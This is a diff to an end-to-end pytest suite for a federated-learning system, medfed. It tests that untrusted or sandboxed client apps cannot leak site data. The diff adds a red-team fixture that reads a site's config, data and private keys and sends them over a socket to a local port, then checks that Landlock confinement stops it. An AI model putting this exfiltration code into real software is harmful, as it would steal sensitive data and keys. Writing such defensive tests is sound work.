@@ -17,6 +17,7 @@ import pytest
 
 from medfed.app_bundle import CLIENT_APP, build_app_dir, signature_run_config
 from medfed.client.config import SITE_TOML
+from medfed.client.sandbox import landlock_abi
 from medfed.consortium import write_demo_consortium
 from medfed.coordinator.results import RunResults, read_results
 from medfed.coordinator.study import StudySettings
@@ -42,12 +43,12 @@ pytestmark = [pytest.mark.e2e, pytest.mark.slow]
 
 SITE = site_ids(1)[0]
 EXFIL_CLIENT_APP = """
+import socket
 from pathlib import Path
 
-from flwr.app import ArrayRecord, Message, RecordDict
-from flwr.clientapp import ClientApp
-
 import numpy as np
+from flwr.app import ArrayRecord, Message, RecordDict
+from medfed.flower.apps import ClientApp  # Flower's ClientApp, through medfed's door
 
 app = ClientApp()
 
@@ -55,7 +56,10 @@ app = ClientApp()
 @app.train()
 @app.query()
 def take(msg: Message, context: object) -> Message:
-    loot = b"".join(path.read_bytes() for path in Path.cwd().rglob("*") if path.is_file())
+    # What the red team's app did: the site's site.toml, data and keys, and a connection out.
+    site = Path(str(context.node_config["site-config"])).parent
+    loot = b"".join(path.read_bytes() for path in site.rglob("*") if path.is_file())
+    socket.create_connection(("127.0.0.1", 9)).sendall(loot)
     rows = np.frombuffer(loot[: len(loot) // 4 * 4], dtype=np.float32)
     return Message(RecordDict({"arrays": ArrayRecord({"w": rows})}), reply_to=msg)
 """
@@ -79,6 +83,18 @@ def _finished(group: ProcessGroup, app_dir: Path) -> RunResults:
             return results
         time.sleep(0.2)
     raise AssertionError(f"the run of {app_dir} did not finish within {RUN_TIMEOUT_S:g} s")
+
+
+def _foreign_app(tmp_path: Path, name: str, study: StudySettings, sites_root: Path) -> Path:
+    """An app folder whose ClientApp is `EXFIL_CLIENT_APP`, not medfed's (its ServerApp is)."""
+    app_dir = _app(tmp_path, name, study, sites_root)
+    pyproject = app_dir / "pyproject.toml"
+    text = pyproject.read_text().replace(f'"{CLIENT_APP}"', '"exfil.client:app"')
+    pyproject.write_text(text)
+    (app_dir / "exfil").mkdir()
+    (app_dir / "exfil" / "__init__.py").write_text(f"# {name}\n")
+    (app_dir / "exfil" / "client.py").write_text(EXFIL_CLIENT_APP)
+    return app_dir
 
 
 def _fab_sha256(app_dir: Path) -> str:
@@ -121,17 +137,12 @@ def test_unsigned_tampered_and_untrusted_bundles_are_refused_a_signed_one_trains
     # The red team's bundle: signed with the consortium's real app-signing key, its
     # ClientApp is its own code, which would read the site's key and data files and send
     # them out; the site runs only medfed's own ClientApp (or a bundle it approved).
-    foreign = _app(tmp_path, "foreign", study, sites_root)
-    pyproject = foreign / "pyproject.toml"
-    pyproject.write_text(
-        pyproject.read_text().replace(
-            f'clientapp = "{CLIENT_APP}"', 'clientapp = "exfil.client:app"'
-        )
-    )
-    (foreign / "exfil").mkdir()
-    (foreign / "exfil" / "__init__.py").write_text("")
-    (foreign / "exfil" / "client.py").write_text(EXFIL_CLIENT_APP)
+    foreign = _foreign_app(tmp_path, "foreign", study, sites_root)
     foreign_signature = signing.run_config(foreign)
+    # The same app, approved by the site by its hash: it runs, confined (`client.sandbox`),
+    # so its first read of the site's files fails and nothing leaves.
+    approved = _foreign_app(tmp_path, "approved", study, sites_root)
+    approved_signature = signing.run_config(approved)
     signed = _app(tmp_path, "signed", study, sites_root)
 
     env = {**os.environ, TEST_TAG_VARIABLE: process_tag, "FLWR_HOME": str(tmp_path / "flwr")}
@@ -140,7 +151,8 @@ def test_unsigned_tampered_and_untrusted_bundles_are_refused_a_signed_one_trains
         port = _start_superlink(group, programs, tmp_path, pki, simulation=False)
         _write_flwr_config(tmp_path / "flwr", port, pki, None)
         _start_site_daemons(group, programs, port, pki, sites_root, group.env,
-                            trusted_entities=signing.trusted_entities)  # fmt: skip
+                            trusted_entities=signing.trusted_entities,
+                            approved_apps=[_fab_sha256(approved)])  # fmt: skip
         for name, app_dir, run_config in (
             ("unsigned", unsigned, None),
             ("tampered", tampered, tampered_signature),
@@ -149,6 +161,8 @@ def test_unsigned_tampered_and_untrusted_bundles_are_refused_a_signed_one_trains
         ):
             _submit(programs, app_dir, group.env, run_config=run_config)
             refused[name] = _finished(group, app_dir)
+        _submit(programs, approved, group.env, run_config=approved_signature)
+        confined = _finished(group, approved)
         _submit(programs, signed, group.env, run_config=signing.run_config(signed))
         trained = _finished(group, signed)
 
@@ -183,8 +197,22 @@ def test_unsigned_tampered_and_untrusted_bundles_are_refused_a_signed_one_trains
     # Nothing of a refused bundle was installed; the signed one was.
     installed = config.state_dir / "flwr" / "apps"
     assert not list(installed.rglob("backdoor.py"))
-    assert not list(installed.rglob("exfil"))
-    assert len([path for path in installed.iterdir() if path.is_dir()]) == 1
+    folders = sorted(path.name for path in installed.iterdir() if path.is_dir())
+    # Flower names an installed bundle's folder by its hash's first 8 characters.
+    assert [name.rsplit(".", 1)[1] for name in folders] == sorted(
+        _fab_sha256(app)[:8] for app in (approved, signed)
+    )
+
+    # The approved app ran, and failed at its first read of the site's files: the reply
+    # names only the failure's type; no data, path or key reached the coordinator.
+    assert confined.status == "failed" and confined.rounds_completed == 0
+    # (A kernel without Landlock runs it unconfined, as the executor's log warns: then its
+    # connection out is what fails, as nothing listens on port 9.)
+    failure = "(PermissionError)" if landlock_abi() else "(ConnectionRefusedError)"
+    assert failure in str(confined.error), confined.error
+    chain = (approved.parent / "audit.jsonl").read_text()
+    for secret in (str(sites_root), "BEGIN PRIVATE KEY", config.site.id + "-p0"):
+        assert secret not in str(confined.error) and secret not in chain
 
     assert trained.status == "completed", trained.error
     assert trained.rounds_completed == 1 and trained.per_round[0].participants == [SITE]
